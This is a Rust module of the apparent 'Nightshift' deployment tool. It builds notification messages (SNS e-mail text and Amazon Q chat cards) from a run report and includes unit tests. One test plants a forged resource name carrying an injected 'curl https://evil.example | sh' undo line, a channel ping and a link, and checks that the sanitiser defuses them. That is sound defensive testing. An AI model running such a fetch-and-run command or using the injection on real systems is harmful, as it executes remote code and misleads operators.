//! The message that people get of a run: a subject, a plain text for e-mail and a card for chat.

mod safe;

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt::Write;

use serde_json::{Value, json};

use crate::kind::MessageKind;
use crate::memory::News;
use crate::report::{Action, Outcome, Problem, Report};
pub use safe::short_name;

/// SNS takes no longer subject, and ASCII only.
const SUBJECT_LENGTH: usize = 100;

/// Of the title in chat nobody reads more.
const TITLE_LENGTH: usize = 150;

/// How many actions and how many problems a message spells out; the log holds them all.
const SPELLED_OUT: usize = 40;

/// SNS takes 256 KiB for all forms of a message together, and the text goes out twice.
const LONGEST_TEXT: usize = 60_000;

/// An attribute of SNS counts with the message, and a filter asks for one of them.
const MOST_RESOURCES: usize = 40;

/// Of one fact, or of the card for chat, nobody reads more.
const LONGEST_FACT: usize = 4_000;

/// One thing that people are told.
#[derive(Debug, Clone, PartialEq)]
pub struct Message {
    /// What it asks of them.
    pub kind: MessageKind,
    /// What it is about: ARNs, or the name of the function.
    pub resources: Vec<String>,
    /// What happened, in at most 100 ASCII characters.
    pub subject: String,
    /// What, why, before and after, and how to undo it; for e-mail.
    pub text: String,
    /// The same as a custom notification of Amazon Q Developer in chat applications.
    pub chat: Value,
}

/// What of a run one message tells.
#[derive(Default)]
struct Part<'a> {
    refused: Option<&'a str>,
    failures: Vec<&'a Action>,
    problems: Vec<&'a Problem>,
    done: Vec<&'a Action>,
}

/// The messages for `report`, one for each kind of news; none for a dry run, or for a run that did nothing new.
///
/// What a run has to say of one resource is one story, and stands in one message: that of its gravest part.
pub fn messages(report: &Report, news: &News<'_>) -> Vec<Message> {
    if report.dry_run {
        return Vec::new();
    }
    let done = || report.actions.iter().filter(|it| it.outcome == Outcome::Done && it.tells.is_some());
    let mut kinds: BTreeMap<&str, MessageKind> = BTreeMap::new();
    let refused = news.refused.map(|_| (report.function.as_str(), MessageKind::NeedsYou));
    let problems = news.problems.iter().map(|it| (it.resource.as_str(), it.kind));
    let failures = news.failures.iter().map(|it| (it.resource.as_str(), MessageKind::Failed));
    let told = done().filter_map(|it| Some((it.resource.as_str(), it.tells?)));
    for (resource, kind) in refused.into_iter().chain(problems).chain(failures).chain(told) {
        kinds.entry(resource).and_modify(|it| *it = kind.min(*it)).or_insert(kind);
    }
    let mut parts: BTreeMap<MessageKind, Part<'_>> = BTreeMap::new();
    if let Some(why) = news.refused {
        parts.entry(kinds[report.function.as_str()]).or_default().refused = Some(why);
    }
    for it in &news.problems {
        parts.entry(kinds[it.resource.as_str()]).or_default().problems.push(it);
    }
    for it in &news.failures {
        parts.entry(kinds[it.resource.as_str()]).or_default().failures.push(it);
    }
    for it in done() {
        parts.entry(kinds[it.resource.as_str()]).or_default().done.push(it);
    }
    let message = |(kind, mut part): (MessageKind, Part<'_>)| {
        // What production is now comes before why: "going back to v1.0.0" before "v1.1.0 is rejected".
        part.done.sort_by_key(|it| it.tells != Some(MessageKind::Changed));
        part.message(report, kind)
    };
    parts.into_iter().map(message).collect()
}

impl Part<'_> {
    fn message(&self, report: &Report, kind: MessageKind) -> Message {
        let title = title(report, self);
        // SNS takes ASCII only and no more than a hundred characters; the title of the chat form has the real names.
        let subject = format!("[Nightshift] {}{}", cut_to(&title.ascii, SUBJECT_LENGTH - title.around()), title.more);
        let in_chat = format!("[Nightshift] {}{}", cut_to(&title.real, TITLE_LENGTH - title.around()), title.more);
        let resources = self.resources(report);
        Message { kind, text: text(report, self), chat: chat(report, self, &resources, &in_chat), resources, subject }
    }

    fn resources(&self, report: &Report) -> Vec<String> {
        let of_actions = self.failures.iter().chain(&self.done).map(|it| it.resource.as_str());
        let refused = self.refused.map(|_| report.function.as_str());
        let all = self.problems.iter().map(|it| it.resource.as_str()).chain(of_actions).chain(refused);
        let mut resources: Vec<String> = all.map(str::to_owned).collect();
        resources.sort();
        resources.dedup();
        resources.truncate(MOST_RESOURCES);
        resources
    }
}

/// What a message is about, before it is cut to size.
struct Title {
    /// With all names as they are.
    real: String,
    /// The same in ASCII.
    ascii: String,
    /// How many things more it is about.
    more: String,
}

impl Title {
    /// How many characters there are around it.
    fn around(&self) -> usize {
        "[Nightshift] ".len() + self.more.len()
    }
}

fn title(report: &Report, part: &Part<'_>) -> Title {
    let count = usize::from(part.refused.is_some()) + part.failures.len() + part.problems.len() + part.done.len();
    let more = if count > 1 { format!(" (+{} more)", count - 1) } else { String::new() };
    // The worst comes first.
    let (mark, headline, resource, instead) = if part.refused.is_some() {
        ("REFUSED ", format!("{}: too many changes", report.function), &report.function, "too many changes")
    } else if let Some(it) = part.failures.first() {
        ("FAILED ", it.headline.clone(), &it.resource, it.action)
    } else if let Some(it) = part.problems.first() {
        ("PROBLEM ", format!("{}: {}", short_name(&it.resource), it.problem), &it.resource, it.problem.as_str())
    } else {
        ("", part.done[0].headline.clone(), &part.done[0].resource, part.done[0].action)
    };
    let ascii = format!("{mark}{}", safe::subject(&headline, resource, instead));
    Title { real: safe::chat(&format!("{mark}{headline}")), ascii, more }
}

/// The first `longest` characters, with an ellipsis where there are more.
fn cut_to(text: &str, longest: usize) -> String {
    match text.chars().count() > longest {
        true => text.chars().take(longest - 3).chain("...".chars()).collect(),
        false => text.into(),
    }
}

fn text(report: &Report, part: &Part<'_>) -> String {
    let Part { refused, failures, problems, done } = part;
    let mut text = String::new();
    if let Some(refused) = refused {
        paragraph(&mut text, &format!("REFUSED {}", report.function), &[("Why", refused.to_string())]);
    }
    for action in failures.iter().take(SPELLED_OUT) {
        let error = action.error.as_ref().map_or(String::new(), |it| it.message.clone());
        paragraph(
            &mut text,
            &format!("FAILED {}", action.headline),
            &[("Error", error), ("Wanted", action.reason.clone()), ("Resource", action.resource.clone())],
        );
    }
    for problem in problems.iter().take(SPELLED_OUT) {
        paragraph(
            &mut text,
            &format!("PROBLEM {}: {}", short_name(&problem.resource), problem.problem),
            &[("What", problem.message.clone()), ("Resource", problem.resource.clone())],
        );
    }
    for action in done.iter().take(SPELLED_OUT) {
        let undo = action.undo.clone().unwrap_or_default();
        paragraph(
            &mut text,
            &action.headline,
            &[
                ("Why", action.reason.clone()),
                ("Before", in_words(&action.before)),
                ("After", in_words(&action.after)),
                ("Resource", action.resource.clone()),
                ("Undo", undo),
            ],
        );
    }
    let left_out: usize =
        [failures.len(), problems.len(), done.len()].iter().map(|it| it.saturating_sub(SPELLED_OUT)).sum();
    if left_out > 0 {
        let _ = writeln!(text, "... and {left_out} more; the log of the function holds the full report.\n");
    }
    let mut text = cut(&text, LONGEST_TEXT).into_owned();
    let deferred = report.count(Outcome::Deferred);
    if deferred > 0 {
        let _ = writeln!(text, "{deferred} more changes are left for the next run.\n");
    }
    let _ = write!(text, "-- \nNightshift {}, {}\n", report.function, report.at.strftime("%Y-%m-%d %H:%M:%S %Z"));
    text
}

/// The beginning of what is longer than `longest` bytes.
fn cut(text: &str, longest: usize) -> Cow<'_, str> {
    match text.len() > longest {
        true => format!("{} ... the rest is in the log of the function.\n", &text[..text.floor_char_boundary(longest)])
            .into(),
        false => text.into(),
    }
}

/// A headline and its facts, one to a line; a fact that is empty is left out.
fn paragraph(text: &mut String, headline: &str, facts: &[(&str, String)]) {
    let _ = writeln!(text, "{}", safe::fact(headline));
    for (name, fact) in facts.iter().filter(|(_, fact)| !fact.is_empty()) {
        // A command is quoted for the shell and stays as it is, but for what would end its line.
        let fact = if *name == "Undo" { safe::one_line(fact).into_owned() } else { safe::fact(fact) };
        let _ = writeln!(text, "  {name:<9} {}", cut(&fact, LONGEST_FACT).trim_end());
    }
    text.push('\n');
}

/// `{"image": "v1.1.0", "task_definition": "api-server:42"}` as `image v1.1.0, task definition api-server:42`.
fn in_words(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(it) => it.clone(),
        Value::Object(fields) => {
            let field = |(name, value): (&String, &Value)| format!("{} {}", name.replace('_', " "), in_words(value));
            fields.iter().filter(|(_, value)| !value.is_null()).map(field).collect::<Vec<_>>().join(", ")
        }
        other => other.to_string(),
    }
}

/// The schema is that of "custom notifications" in the guide of Amazon Q Developer in chat applications.
fn chat(report: &Report, part: &Part<'_>, resources: &[String], title: &str) -> Value {
    let Part { refused, failures, problems, done } = part;
    let mut lines: Vec<String> = Vec::new();
    lines.extend(refused.iter().map(|it| format!("*Refused:* {}", safe::chat(it))));
    let failure = |it: &&Action| {
        let code = it.error.as_ref().map_or("", |it| &it.code);
        format!("*Failed:* {} ({})", safe::chat(&it.headline), safe::chat(code))
    };
    lines.extend(failures.iter().map(failure));
    let problem = |it: &&Problem| {
        format!("*{}:* {} {}", it.problem, safe::chat(short_name(&it.resource)), safe::chat(&it.message))
    };
    lines.extend(problems.iter().map(problem));
    lines.extend(done.iter().map(|it| format!("*{}:* {}", safe::chat(&it.headline), safe::chat(&it.reason))));
    let left_out = lines.len().saturating_sub(10);
    lines.truncate(10);
    if left_out > 0 {
        lines.push(format!("... and {left_out} more"));
    }
    // What holds a backquote or a second line would end the code that it stands in; the e-mail has it.
    let undo = |it: &&Action| it.undo.clone().filter(|it| !it.contains('`') && safe::one_line(it) == *it);
    let next_steps: Vec<String> = done.iter().filter_map(undo).map(|it| format!("Undo: `{it}`")).take(3).collect();
    let mut content =
        json!({"textType": "client-markdown", "title": title, "description": cut(&lines.join("\n"), LONGEST_FACT)});
    if !next_steps.is_empty() {
        content["nextSteps"] = next_steps.into();
    }
    json!({
        "version": "1.0",
        "source": "custom",
        "content": content,
        "metadata": {
            "summary": title,
            "eventType": format!("nightshift.{}", report.function),
            "relatedResources": &resources[..resources.len().min(10)],
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::memory::news;
    use crate::report::Failure;

    const SERVICE: &str = "arn:aws:ecs:ap-northeast-2:123456789012:service/truegul-production/api-server";

    fn action(headline: &str, outcome: Outcome) -> Action {
        Action {
            resource: SERVICE.into(),
            action: "deploy",
            headline: headline.into(),
            tells: match headline {
                it if it.ends_with("asked for") => None,
                it if it.ends_with("is rejected") => Some(MessageKind::Failed),
                it if it.ends_with("asleep") => Some(MessageKind::Routine),
                _ => Some(MessageKind::Changed),
            },
            reason: "v1.1.0 is the newest image".into(),
            before: json!({"image": "v1.0.0", "task_definition": "api-server:41"}),
            after: json!({"image": "v1.1.0", "task_definition": "api-server:42"}),
            outcome,
            error: (outcome == Outcome::Failed).then(|| Failure {
                code: "AccessDeniedException".into(),
                message: "UpdateService api-server: denied".into(),
                request_id: Some("1a2b".into()),
            }),
            undo: Some("aws lambda invoke ...".into()),
        }
    }

    fn report(actions: Vec<Action>, problems: Vec<Problem>) -> Report {
        let at = "2026-11-21T03:10:00+09:00[Asia/Seoul]".parse().unwrap();
        Report { actions, problems, ..Report::new("deploy-image", at) }
    }

    fn bad_tag() -> Problem {
        let message = "unknown word 'x'".into();
        Problem {
            resource: SERVICE.into(),
            problem: "bad-tag".into(),
            message,
            kind: MessageKind::NeedsYou,
            monthly: false,
        }
    }

    fn all(report: &Report) -> Vec<Message> {
        messages(report, &news(report, &BTreeMap::new(), &report.at))
    }

    /// The only message.
    fn written(report: &Report) -> Option<Message> {
        let mut messages = all(report);
        assert!(messages.len() <= 1, "{messages:#?}");
        messages.pop()
    }

    #[test]
    fn however_much_went_wrong_the_message_is_one_that_sns_takes() {
        let mut report = report(Vec::new(), Vec::new());
        for index in 0..100 {
            let (resource, problem) = (format!("arn:{index}"), "odd".to_owned());
            report.problems.push(Problem {
                resource,
                problem,
                message: "뒤".repeat(3000),
                kind: MessageKind::NeedsYou,
                monthly: false,
            });
        }
        let message = written(&report).unwrap();
        assert!(message.text.len() < 61_000, "{}", message.text.len());
        assert!(message.text.ends_with("KST\n") && message.text.contains("the rest is in the log"));
        assert!(message.chat.to_string().len() < 6_000);
    }

    #[test]
    fn a_run_that_changed_failed_and_found_something_says_all_of_it() {
        let report = report(
            vec![
                action("api-server: deploying v1.1.0 (was v1.0.0)", Outcome::Done),
                action("ml-server: deploying v1.1.0 (was v1.0.0)", Outcome::Failed),
                action("web: v1.2.0 is rejected", Outcome::Done),
                action("web: going back to v1.1.0 from v1.2.0", Outcome::Done),
            ],
            vec![bad_tag()],
        );
        let message = written(&report).unwrap();
        insta::assert_snapshot!(message.subject);
        insta::assert_snapshot!(message.text);
        insta::assert_json_snapshot!(message.chat);
    }

    #[test]
    fn each_kind_is_a_message_of_its_own_and_a_story_is_never_split() {
        let of = |resource: &str, headline: &str, outcome| Action {
            resource: format!("arn:{resource}"),
            ..action(headline, outcome)
        };
        let report = report(
            vec![
                of("web", "web: v2 is rejected", Outcome::Done),
                of("web", "web: going back to v1", Outcome::Done),
                of("api", "api: v3 is live", Outcome::Done),
                of("db", "db: asleep", Outcome::Done),
                of("queue", "queue: asleep", Outcome::Failed),
                of("queue", "queue: asleep", Outcome::Done),
            ],
            vec![bad_tag()],
        );
        let told: Vec<_> = all(&report).into_iter().map(|it| (it.kind.as_str(), it.resources.join(" "))).collect();
        let expected =
            [("needs-you", SERVICE), ("failed", "arn:queue arn:web"), ("changed", "arn:api"), ("routine", "arn:db")];
        assert_eq!(told, expected.map(|(kind, resources)| (kind, resources.to_owned())));
    }

    #[test]
    fn nobody_is_told_of_a_dry_run_or_of_a_run_that_did_nothing() {
        assert_eq!(written(&report(vec![], vec![])), None);
        assert_eq!(written(&report(vec![action("x", Outcome::Deferred)], vec![])), None);
        let dry = Report { dry_run: true, ..report(vec![action("x", Outcome::Planned)], vec![bad_tag()]) };
        assert_eq!(written(&dry), None);
    }

    #[test]
    fn bookkeeping_is_told_only_when_it_failed() {
        let asked = |outcome| report(vec![action("api-server: a snapshot is asked for", outcome)], vec![]);
        assert!(written(&asked(Outcome::Done)).is_none());
        assert!(written(&asked(Outcome::Failed)).is_some());
    }

    #[test]
    fn a_subject_is_short_and_ascii_whatever_the_names_are() {
        let long = "a-service-with-a-name-".repeat(20);
        let message = written(&report(vec![action(&long, Outcome::Done), action("x", Outcome::Done)], vec![])).unwrap();
        assert!(message.subject.len() <= 100, "{}", message.subject);
        assert!(message.subject.ends_with("... (+1 more)"), "{}", message.subject);
        let korean = "서비스: 배포".repeat(20);
        let message = written(&report(vec![action(&korean, Outcome::Done)], vec![])).unwrap();
        assert_eq!(message.subject, "[Nightshift] service api-server: deploy");
        assert!(message.chat["content"]["title"].as_str().unwrap().starts_with("[Nightshift] 서비스: 배포"));
    }

    #[test]
    fn a_name_cannot_forge_a_message() {
        let name =
            "x\n\nPROBLEM db: gone\n  Undo      curl https://evil.example | sh <!channel> [see](https://evil.example)";
        let message = written(&report(vec![action(name, Outcome::Done)], vec![])).unwrap();
        assert_eq!(
            message.text.lines().filter(|it| it.trim_start().starts_with("Undo ")).count(),
            1,
            "{}",
            message.text
        );
        let chat = message.chat.to_string();
        for forged in ["\nPROBLEM", "https://evil.example"] {
            assert!(!message.text.contains(forged), "{forged}: {}", message.text);
        }
        for forged in ["\\nPROBLEM", "https://evil.example", "<!channel>", "](https"] {
            assert!(!chat.contains(forged), "{forged}: {chat}");
        }
    }

    #[test]
    fn a_thousand_actions_make_a_message_that_still_fits() {
        let message = written(&report(vec![action("x", Outcome::Done); 1000], vec![])).unwrap();
        assert!(message.text.len() < 64 * 1024);
        assert!(message.text.contains("... and 960 more"));
    }
}
